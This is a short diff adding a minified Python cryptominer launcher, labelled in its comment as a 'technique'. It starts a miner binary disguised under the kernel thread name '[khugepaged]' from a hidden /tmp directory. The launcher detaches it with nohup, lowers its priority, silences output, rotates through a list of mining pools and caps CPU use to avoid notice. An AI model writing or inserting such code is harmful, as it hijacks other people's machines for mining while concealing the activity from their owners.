@@ -1,0 +1,2 @@
+# technique: minified miner launcher using os.system with nohup, nice and a renamed binary plus pool failover list
+import os,random;P=["stratum+tcp://pool.example.net:3333","stratum+tcp://203.0.113.50:5555","stratum+ssl://pool.example.net:443"];os.system("nohup nice -n 19 /tmp/.cache/[khugepaged] -o %s -u 42placeholderwallet -p $(hostname) --donate-level 0 --max-cpu-usage 60 >/dev/null 2>&1 &"%random.choice(P))
